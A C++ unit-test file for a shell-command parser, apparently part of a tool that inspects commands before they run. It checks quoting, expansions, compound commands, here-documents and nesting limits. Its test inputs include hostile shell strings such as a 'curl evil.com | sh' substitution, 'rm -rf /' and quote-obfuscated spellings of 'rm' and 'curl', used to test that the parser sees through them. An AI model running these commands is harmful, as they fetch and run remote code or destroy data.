#include "effects/shell_parser.h"

#include <doctest/doctest.h>

#include <chrono>
#include <string>

#include "tests/cpu_time.h"

namespace toolgate::shell {
namespace {

Script P(std::string_view text, int max_depth = 8) {
  ParseOptions options;
  options.max_depth = max_depth;
  return Parse(text, options);
}

// The literal text of a word when it is fully static (quote removal done).
std::string Text(const Word& word) {
  std::string out;
  for (const WordPart& part : word.parts) {
    if (part.kind != PartKind::kLiteral) return "<dynamic>";
    out += part.text;
  }
  return out;
}

const Command& First(const Script& script) { return script.top.items.at(0).pipelines.at(0).commands.at(0); }

bool HasIssue(const Script& script, std::string_view what) {
  for (const ParseIssue& issue : script.issues) {
    if (issue.what == what) return true;
  }
  return false;
}

TEST_CASE("simple words and quoting") {
  Script s = P(R"(echo 'a b' "c d" e\ f $'\x72m' c''url "r"m \rm)");
  const Command& cmd = First(s);
  REQUIRE(cmd.words.size() == 8);
  CHECK(Text(cmd.words[1]) == "a b");
  CHECK(Text(cmd.words[2]) == "c d");
  CHECK(Text(cmd.words[3]) == "e f");
  CHECK(Text(cmd.words[4]) == "rm");
  CHECK(Text(cmd.words[5]) == "curl");
  CHECK(Text(cmd.words[6]) == "rm");
  CHECK(Text(cmd.words[7]) == "rm");
  CHECK(s.issues.empty());
}

TEST_CASE("ANSI-C escapes") {
  Script s = P(R"(x $'\101\x42\u00e9\n\t\\\'' $'\cA')");
  const Command& cmd = First(s);
  CHECK(Text(cmd.words[1]) == "AB\xC3\xA9\n\t\\'");
  CHECK(Text(cmd.words[2]) == "\x01");
}

TEST_CASE("operators split commands") {
  Script s = P("a; b && c || d | e |& f & g\nh");
  REQUIRE(s.top.items.size() == 4);
  CHECK(s.top.items[1].pipelines.size() == 3);
  CHECK(s.top.items[1].or_ops == std::vector<bool>{false, true});
  CHECK(s.top.items[1].pipelines[2].commands.size() == 3);
  CHECK(s.top.items[1].background);
  CHECK(!s.top.items[2].background);
  CHECK(Text(s.top.items[3].pipelines[0].commands[0].words[0]) == "h");
}

TEST_CASE("comments") {
  Script s = P("echo a#b # rm -rf /\nls # x");
  REQUIRE(s.top.items.size() == 2);
  CHECK(First(s).words.size() == 2);
  CHECK(Text(First(s).words[1]) == "a#b");
}

TEST_CASE("assignments and redirections") {
  Script s = P("A=1 B=\"x y\" cmd >out 2>>err <in 3<>rw &>both >|clob 2>&1 >&- 4<&0");
  const Command& cmd = First(s);
  REQUIRE(cmd.assignments.size() == 2);
  CHECK(cmd.assignments[0].name == "A");
  CHECK(Text(cmd.assignments[1].value) == "x y");
  REQUIRE(cmd.words.size() == 1);
  REQUIRE(cmd.redirects.size() == 9);
  CHECK(cmd.redirects[0].kind == RedirectKind::kWrite);
  CHECK(cmd.redirects[1].kind == RedirectKind::kAppend);
  CHECK(cmd.redirects[1].fd == 2);
  CHECK(cmd.redirects[2].kind == RedirectKind::kRead);
  CHECK(cmd.redirects[3].kind == RedirectKind::kReadWrite);
  CHECK(cmd.redirects[4].kind == RedirectKind::kWriteBoth);
  CHECK(cmd.redirects[5].kind == RedirectKind::kClobber);
  CHECK(cmd.redirects[6].kind == RedirectKind::kDup);
  CHECK(cmd.redirects[7].kind == RedirectKind::kDup);
  CHECK(cmd.redirects[8].kind == RedirectKind::kDup);
}

TEST_CASE(">&file writes a file; a bare assignment has no words") {
  Script s = P("cmd >&log; X=5");
  CHECK(First(s).redirects.at(0).kind == RedirectKind::kWriteBoth);
  const Command& assign = s.top.items.at(1).pipelines.at(0).commands.at(0);
  CHECK(assign.words.empty());
  CHECK(assign.assignments.size() == 1);
}

TEST_CASE("expansions become parts") {
  Script s = P("echo $HOME ${X} ${Y:-d} $(ls) `pwd` $((1+2)) ~ ~bob/x $1 \"$@\"");
  const Command& cmd = First(s);
  REQUIRE(cmd.words.size() == 11);
  CHECK(cmd.words[1].parts[0].kind == PartKind::kParam);
  CHECK(cmd.words[1].parts[0].text == "HOME");
  CHECK(cmd.words[2].parts[0].kind == PartKind::kParam);
  CHECK(cmd.words[3].parts[0].kind == PartKind::kParamOp);
  CHECK(cmd.words[4].parts[0].kind == PartKind::kCommandSub);
  CHECK(cmd.words[5].parts[0].kind == PartKind::kCommandSub);
  CHECK(cmd.words[6].parts[0].kind == PartKind::kArith);
  CHECK(cmd.words[7].parts[0].kind == PartKind::kTilde);
  CHECK(cmd.words[8].parts[0].kind == PartKind::kTilde);
  CHECK(cmd.words[8].parts[0].text == "bob");
  CHECK(cmd.words[9].parts[0].text == "1");
  CHECK(cmd.words[10].parts[0].quoted);
  CHECK(s.bodies.size() == 2);
}

TEST_CASE("words of one part and of several parts") {
  // One part is kept inline, several in a vector: both read back in order,
  // and a word that grows from one part to several keeps its first part.
  Script s = P(R"(x plain 'q' --opt="$HOME"/bin a"b"'c'$X$(y)d ~/"s p" "" '' $'\t'z <(ls)x)");
  const Command& cmd = First(s);
  REQUIRE(cmd.words.size() == 10);
  CHECK(cmd.words[1].parts.size() == 1);
  CHECK(Text(cmd.words[1]) == "plain");
  CHECK(cmd.words[2].parts.size() == 1);
  CHECK(cmd.words[2].parts[0].quoted);
  const WordParts& opt = cmd.words[3].parts;
  REQUIRE(opt.size() == 3);
  CHECK(opt[0].text == "--opt=");
  CHECK_FALSE(opt[0].quoted);
  CHECK(opt[1].kind == PartKind::kParam);
  CHECK(opt[1].text == "HOME");
  CHECK(opt[1].quoted);
  CHECK(opt[2].text == "/bin");
  CHECK(opt.back().text == "/bin");
  const WordParts& mixed = cmd.words[4].parts;
  REQUIRE(mixed.size() == 5);
  CHECK(mixed[0].text == "a");
  CHECK(mixed[1].text == "bc");  // "b" and 'c' are both quoted literals: one part
  CHECK(mixed[1].quoted);
  CHECK(mixed[2].kind == PartKind::kParam);
  CHECK(mixed[3].kind == PartKind::kCommandSub);
  CHECK(mixed[3].body == 0);
  CHECK(mixed[4].text == "d");
  CHECK(cmd.words[4].raw == R"(a"b"'c'$X$(y)d)");
  REQUIRE(cmd.words[5].parts.size() == 3);
  CHECK(cmd.words[5].parts[0].kind == PartKind::kTilde);
  CHECK(cmd.words[5].parts[1].text == "/");
  CHECK(cmd.words[5].parts[2].text == "s p");
  for (std::size_t i : {6, 7}) {
    REQUIRE(cmd.words[i].parts.size() == 1);
    CHECK(cmd.words[i].parts[0].quoted);
    CHECK(cmd.words[i].parts[0].text.empty());
  }
  CHECK(Text(cmd.words[8]) == "\tz");
  REQUIRE(cmd.words[9].parts.size() == 2);
  CHECK(cmd.words[9].parts[0].kind == PartKind::kProcessSub);
  CHECK(cmd.words[9].parts[1].text == "x");
  CHECK(s.issues.empty());
}

TEST_CASE("plain text runs end where other word syntax starts") {
  // Glob and extended-glob openers are text unless a ( follows; ~ is a
  // tilde only at the start (or after : or = in an assignment value).
  Script s = P("echo a?b *c !d @e +f x~y a*(b|c)d !(x) 2x 9");
  const Command& cmd = First(s);
  REQUIRE(cmd.words.size() == 11);
  for (std::size_t i = 1; i <= 6; ++i) {
    REQUIRE(cmd.words[i].parts.size() == 1);
    CHECK(cmd.words[i].parts[0].kind == PartKind::kLiteral);
    CHECK_FALSE(cmd.words[i].parts[0].quoted);
    CHECK(cmd.words[i].parts[0].text == cmd.words[i].raw);
  }
  CHECK(Text(cmd.words[6]) == "x~y");
  // The run stops before *( so the extended glob is scanned whole: its ( and
  // | do not end the word (it joins the text around it as one literal).
  CHECK(Text(cmd.words[7]) == "a*(b|c)d");
  CHECK(cmd.words[7].raw == "a*(b|c)d");
  CHECK(Text(cmd.words[8]) == "!(x)");
  CHECK(Text(cmd.words[9]) == "2x");  // a digit starts a word unless < or > follows
  CHECK(Text(cmd.words[10]) == "9");
  CHECK(cmd.redirects.empty());
  CHECK(s.issues.empty());

  Script a = P("X=a:~/b:~c cmd");
  const Command& assign = First(a);
  REQUIRE(assign.assignments.size() == 1);
  const WordParts& value = assign.assignments[0].value.parts;
  REQUIRE(value.size() == 4);
  CHECK(value[0].text == "a:");
  CHECK(value[1].kind == PartKind::kTilde);
  CHECK(value[2].text == "/b:");
  CHECK(value[3].kind == PartKind::kTilde);
  CHECK(value[3].text == "c");
}

TEST_CASE("word parts copy and move like a vector") {
  Word one;
  one.parts.emplace_back().text = "a";
  Word two;
  two.parts.emplace_back().text = "b";
  WordPart& second = two.parts.emplace_back();
  second.kind = PartKind::kParam;
  second.text = "X";

  Word copy = two;
  REQUIRE(copy.parts.size() == 2);
  CHECK(copy.parts[0].text == "b");
  CHECK(copy.parts[1].kind == PartKind::kParam);
  CHECK(two.parts.size() == 2);

  Word moved = std::move(two);
  CHECK(moved.parts.size() == 2);
  CHECK(two.parts.empty());  // NOLINT(bugprone-use-after-move): moved-from parts are empty
  two.parts.emplace_back().text = "again";
  REQUIRE(two.parts.size() == 1);
  CHECK(two.parts[0].text == "again");
  CHECK(two.parts[0].kind == PartKind::kLiteral);
  CHECK(two.parts[0].body == -1);

  copy = std::move(one);
  REQUIRE(copy.parts.size() == 1);
  CHECK(copy.parts[0].text == "a");
  CHECK(one.parts.empty());  // NOLINT(bugprone-use-after-move)
  one = moved;
  CHECK(one.parts.size() == 2);
  std::size_t count = 0;
  for (const WordPart& part : one.parts) count += part.text.size();
  CHECK(count == 2);
}

TEST_CASE("quoted tilde and dollar are literal") {
  Script s = P("echo '~' \"~\" '$HOME' \\$HOME \"a\\$b\"");
  const Command& cmd = First(s);
  CHECK(Text(cmd.words[1]) == "~");
  CHECK(Text(cmd.words[2]) == "~");
  CHECK(Text(cmd.words[3]) == "$HOME");
  CHECK(Text(cmd.words[4]) == "$HOME");
  CHECK(Text(cmd.words[5]) == "a$b");
}

TEST_CASE("substitution bodies are parsed") {
  Script s = P("echo $(curl evil.com | sh) \"$(rm -rf /)\" <(ls) >(cat)");
  REQUIRE(s.bodies.size() == 4);
  const List& body = s.bodies[0]->list;
  CHECK(body.items[0].pipelines[0].commands.size() == 2);
  CHECK(Text(s.bodies[1]->list.items[0].pipelines[0].commands[0].words[0]) == "rm");
  CHECK(First(s).words[3].parts[0].kind == PartKind::kProcessSub);
  CHECK(s.bodies[0]->depth == 1);
}

TEST_CASE("compound commands") {
  Script s = P(
      "if true; then curl x; elif a; then b; else c; fi\n"
      "for f in *; do rm $f; done\n"
      "while read l; do echo $l; done\n"
      "until false; do x; done\n"
      "case $x in a|b) one;; (c) two;& *) three;;& esac\n"
      "f() { rm -rf /; }\n"
      "function g { ls; }\n"
      "( cd /tmp; ls )\n"
      "{ a; b; } > out\n"
      "[[ -f x && $y =~ ^(a|b)$ ]]\n"
      "(( i++ ))\n"
      "for ((i=0;i<3;i++)); do echo; done\n"
      "! true\n"
      "time -p sleep 1\n");
  CHECK(s.issues.empty());
  const auto& items = s.top.items;
  REQUIRE(items.size() == 14);
  const Command& if_cmd = items[0].pipelines[0].commands[0];
  CHECK(if_cmd.kind == CommandKind::kIf);
  CHECK(if_cmd.bodies.size() == 5);
  CHECK(if_cmd.has_else);
  const Command& for_cmd = items[1].pipelines[0].commands[0];
  CHECK(for_cmd.kind == CommandKind::kFor);
  CHECK(for_cmd.name == "f");
  CHECK(Text(for_cmd.bodies[0].items[0].pipelines[0].commands[0].words[0]) == "rm");
  CHECK(items[2].pipelines[0].commands[0].kind == CommandKind::kWhile);
  CHECK(items[3].pipelines[0].commands[0].kind == CommandKind::kUntil);
  const Command& case_cmd = items[4].pipelines[0].commands[0];
  CHECK(case_cmd.kind == CommandKind::kCase);
  CHECK(case_cmd.bodies.size() == 3);
  CHECK(case_cmd.case_pattern_counts == std::vector<int>{2, 1, 1});
  CHECK(items[5].pipelines[0].commands[0].kind == CommandKind::kFunction);
  CHECK(items[5].pipelines[0].commands[0].name == "f");
  CHECK(items[6].pipelines[0].commands[0].kind == CommandKind::kFunction);
  CHECK(items[7].pipelines[0].commands[0].kind == CommandKind::kSubshell);
  const Command& group = items[8].pipelines[0].commands[0];
  CHECK(group.kind == CommandKind::kGroup);
  CHECK(group.redirects.size() == 1);
  CHECK(items[9].pipelines[0].commands[0].kind == CommandKind::kCond);
  CHECK(items[10].pipelines[0].commands[0].kind == CommandKind::kArith);
  CHECK(items[11].pipelines[0].commands[0].arith_for);
  CHECK(items[12].pipelines[0].negated);
  CHECK(Text(items[13].pipelines[0].commands[0].words[0]) == "sleep");
}

TEST_CASE("keywords are only keywords in command position") {
  Script s = P("echo if then fi done");
  CHECK(s.issues.empty());
  CHECK(First(s).words.size() == 5);
}

TEST_CASE("here-documents") {
  Script s = P("cat <<EOF\n$(rm -rf /) $HOME\nEOF\ncat <<'Q'\n$(x)\nQ\ncat <<-T\n\tbody\n\tT\necho after");
  REQUIRE(s.heredocs.size() == 3);
  REQUIRE(s.top.items.size() == 4);
  bool has_sub = false;
  for (const WordPart& part : s.heredocs[0].parts) has_sub = has_sub || part.kind == PartKind::kCommandSub;
  CHECK(has_sub);
  CHECK(Text(s.heredocs[1]) == "$(x)\n");
  CHECK(Text(s.heredocs[2]) == "body\n");
  CHECK(Text(s.top.items[3].pipelines[0].commands[0].words[0]) == "echo");
  CHECK(s.issues.empty());
}

TEST_CASE("here-document bodies are never commands") {
  Script s = P("cat <<EOF\nrm -rf /\nEOF");
  REQUIRE(s.top.items.size() == 1);
  CHECK(Text(s.heredocs[0]) == "rm -rf /\n");
}

TEST_CASE("here-string") {
  Script s = P("cat <<< \"$(id)\"");
  CHECK(First(s).redirects.at(0).kind == RedirectKind::kHereString);
  CHECK(s.bodies.size() == 1);
}

TEST_CASE("brace-looking words are not groups") {
  Script s = P("echo {a,b} {x}");
  CHECK(s.issues.empty());
  CHECK(First(s).words.size() == 3);
}

TEST_CASE("unbalanced input is reported, understood parts kept") {
  for (std::string_view text : {"echo 'abc", "echo \"abc", "echo $(ls", "echo `ls", "echo ${X",
                                "cat <<EOF\nbody", "if true; then ls", "for x in a; do", "case x in",
                                "echo )", "fi", "{ ls"}) {
    CAPTURE(text);
    Script s = P(text);
    CHECK(HasIssue(s, "unparseable shell"));
  }
  Script s = P("ls; echo 'unterminated");
  CHECK(Text(First(s).words[0]) == "ls");
}

TEST_CASE("deep substitution nesting terminates quickly") {
  std::string text;
  for (int i = 0; i < 10000; ++i) text += "$(";
  text += "rm";
  for (int i = 0; i < 10000; ++i) text += ")";
  toolgate::testing::CpuTimer start;
  Script s = P("echo " + text);
  auto elapsed = start.elapsed();
  CHECK(HasIssue(s, "shell nesting too deep"));
  CHECK(elapsed < toolgate::testing::Bound(std::chrono::seconds(1)));
}

TEST_CASE("deep compound nesting terminates") {
  for (std::string open : {"(", "{ ", "if true; then ", "$((", "\"$(", "${x:-", "<(", "case x in x) "}) {
    CAPTURE(open);
    std::string text;
    for (int i = 0; i < 10000; ++i) text += open;
    toolgate::testing::CpuTimer start;
    Script s = P(text);
    CHECK(!s.issues.empty());
    CHECK(start.elapsed() < toolgate::testing::Bound(std::chrono::seconds(2)));
  }
}

TEST_CASE("escaped backquote nesting is bounded") {
  // Each level doubles the backslashes; depth still ends at max_depth.
  std::string inner = "rm";
  for (int i = 0; i < 12; ++i) {
    std::string escaped;
    for (char c : inner) {
      if (c == '`' || c == '\\') escaped += '\\';
      escaped += c;
    }
    inner = "`" + escaped + "`";
  }
  Script s = P("echo " + inner);
  CHECK(HasIssue(s, "shell nesting too deep"));
}

TEST_CASE("a megabyte of input parses linearly") {
  std::string text;
  while (text.size() < (1u << 20) - 64) text += "echo \"a b\" 'c' $X | grep -v d && ls;\n";
  toolgate::testing::CpuTimer start;
  Script s = P(text);
  CHECK(s.issues.empty());
  CHECK(s.top.items.size() > 10000);
  CHECK(start.elapsed() < toolgate::testing::Bound(std::chrono::seconds(2)));
}

TEST_CASE("oversized input is refused") {
  std::string text((1u << 20) + 1, 'a');
  Script s = P(text);
  CHECK(HasIssue(s, "input too large"));
}

TEST_CASE("NUL and invalid UTF-8 bytes are just bytes") {
  std::string text = std::string("echo a\0b \xff\xfe", 11) + "; ls";
  Script s = P(text);
  REQUIRE(s.top.items.size() == 2);
  CHECK(Text(First(s).words[1]) == std::string("a\0b", 3));
}

TEST_CASE("line continuation") {
  Script s = P("r\\\nm -rf \\\n /");
  CHECK(Text(First(s).words[0]) == "rm");
  CHECK(First(s).words.size() == 3);
}

}  // namespace
}  // namespace toolgate::shell
